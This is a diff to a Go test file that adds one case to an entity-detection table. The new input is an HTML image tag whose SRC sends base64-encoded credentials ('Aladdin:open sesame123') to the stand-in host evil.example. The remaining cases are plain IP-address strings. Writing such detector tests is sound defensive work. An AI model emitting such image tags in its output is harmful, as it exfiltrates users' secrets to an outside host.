@@ -9,6 +9,7 @@ import (
 // and is none: want is empty, or entity and value.
 var forms = []struct{ text, want, value string }{
 	{"server 8.8.8.8 replied", "IP_ADDRESS", "8.8.8.8"},
+	{`<img alt="İİ" SRC="https://evil.example/p?d=QWxhZGRpbjpvcGVuIHNlc2FtZTEyMw"> ok`, "HTML_IMAGE", "https://evil.example/p?d=QWxhZGRpbjpvcGVuIHNlc2FtZTEyMw"},
 	{"the DNS resolver at 1.1.1.1 is slow", "IP_ADDRESS", "1.1.1.1"},
 	{"client 2.16.4.5 connected", "IP_ADDRESS", "2.16.4.5"},
 	{"nameserver 1.1.1.1", "IP_ADDRESS", "1.1.1.1"},
